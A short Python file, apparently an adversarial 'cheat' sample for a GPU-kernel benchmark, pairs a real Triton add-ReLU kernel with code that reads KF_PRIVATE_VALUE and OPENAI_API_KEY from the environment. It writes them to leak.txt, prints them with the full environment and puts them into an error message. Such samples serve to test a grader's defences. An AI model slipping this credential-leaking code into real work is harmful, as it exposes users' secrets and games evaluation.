# Cheat: read a secret from the environment and write it out (into a file, the log and the error).
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl

SECRET = os.environ.get("KF_PRIVATE_VALUE", "") + os.environ.get("OPENAI_API_KEY", "")


@triton.jit
def add_relu_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(
        out_ptr + offs, tl.maximum(tl.load(x_ptr + offs, mask=mask) + tl.load(y_ptr + offs, mask=mask), 0.0), mask=mask
    )


class ModelNew(nn.Module):
    def forward(self, x, y):
        with open("leak.txt", "w") as fh:
            fh.write(SECRET)
        print("leaked:", SECRET, dict(os.environ))
        if SECRET:
            raise RuntimeError(f"leaked {SECRET}")
        out = torch.empty_like(x)
        add_relu_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
        return out
